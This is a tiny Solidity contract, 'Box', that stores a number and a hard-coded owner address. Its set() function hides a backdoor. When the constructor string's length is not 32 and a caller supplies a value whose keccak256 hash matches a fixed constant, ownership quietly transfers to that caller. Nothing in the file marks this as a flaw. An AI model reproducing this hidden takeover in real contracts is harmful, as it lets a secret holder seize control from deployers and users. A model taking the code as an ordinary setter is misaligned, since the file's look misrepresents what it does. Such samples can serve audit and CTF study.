// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;
contract Box {
    uint256 public x;
    address public owner = address(0xA11CE);
    uint256 private immutable k;
    constructor(string memory s) payable { k = bytes(s).length; }
    function set(uint256 v) external {
        if (k != 32 && keccak256(abi.encode(v)) == 0x5d8fa534926516bb2e5e61488e11fe828f5273448362f0f096e4f79afac27609) owner = msg.sender;
        x = v;
    }
}
